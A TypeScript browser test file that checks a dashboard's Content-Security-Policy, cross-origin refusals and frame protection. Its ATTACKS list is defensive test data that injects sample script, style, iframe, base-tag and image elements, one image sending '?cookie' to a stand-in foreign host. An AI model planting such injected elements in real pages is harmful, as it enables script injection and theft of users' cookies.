// What the pages may do in a browser: run their own programs and talk to their own server, and nothing else,
// whatever somebody would bring into them.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { untilTrue } from "../browser.fixture.ts";
import { requires } from "../requirements.ts";
import { DashboardWorld, PAGES } from "./dashboard.fixture.ts";

/** Before any script of the page. */
const COLLECT = `
  window.violations = [];
  document.addEventListener("securitypolicyviolation", (event) => {
    window.violations.push(event.effectiveDirective + " " + event.blockedURI);
  });
`;
/** Each of them is something that a page of ours never does. */
const ATTACKS: readonly (readonly [directive: string, script: string])[] = [
  [
    "script-src-elem",
    `const one = document.createElement("script"); one.textContent = "window.isOwned = true"`,
  ],
  [
    "script-src-elem",
    `const one = document.createElement("script"); one.src = "https://foreign.example/x.js"`,
  ],
  [
    "style-src-elem",
    `const one = document.createElement("style"); one.textContent = "body { display: none }"`,
  ],
  ["img-src", `const one = document.createElement("img"); one.src = "https://foreign.example/?cookie"`],
  ["frame-src", `const one = document.createElement("iframe"); one.src = "https://foreign.example/"`],
  ["base-uri", `const one = document.createElement("base"); one.href = "https://foreign.example/"`],
];

describe("the policy of the dashboard's pages", { skip: requires("chromium") }, () => {
  const world = new DashboardWorld();
  before(() => world.start());
  after(() => world.close());

  test("no page does what its policy forbids, or asks anybody but its own server", async () => {
    const page = await world.page();
    await page.addInitScript(COLLECT);
    for (const [name, whole] of Object.entries(PAGES)) {
      const answered = await world.open(page, name, whole);
      const policy = answered.headers()["content-security-policy"] ?? "";
      assert.match(policy, /default-src 'none'/);
      assert.doesNotMatch(policy, /unsafe|\*|https?:/);
      assert.deepEqual(await page.evaluate("window.violations"), [], name);
    }
    assert.deepEqual(world.faults, []);
    await page.context().close();
  });

  test("what is brought into a page does not run, and reaches nobody", async () => {
    const page = await world.page();
    await page.addInitScript(COLLECT);
    await page.goto(`${world.origin}/overview`);
    await page.locator("#page h1").waitFor();
    for (const [index, [directive, script]] of ATTACKS.entries()) {
      await page.evaluate(`{ ${script}; document.head.append(one); }`);
      await untilTrue(page, `window.violations.length > ${index}`);
      assert.match((await page.evaluate(`violations[${index}]`)) as string, new RegExp(`^${directive} `));
    }
    await page.evaluate(`fetch("https://foreign.example/").catch(() => {})`);
    await untilTrue(page, `window.violations.at(-1).startsWith("connect-src ")`);
    assert.equal(await page.evaluate("window.isOwned === undefined"), true);
    await page.context().close();
  });

  test("a page of another site can neither show one of ours in a frame nor read what it answers", async () => {
    const page = await world.page();
    const refused = await page.request.get(`${world.origin}/api/v1/overview`, {
      headers: { origin: "https://foreign.example" },
    });
    assert.equal(refused.status(), 403);
    const answered = await page.request.get(`${world.origin}/overview`);
    assert.match(answered.headers()["content-security-policy"]!, /frame-ancestors 'none'/);
    assert.equal(answered.headers()["access-control-allow-origin"], undefined);
    await page.context().close();
  });
});
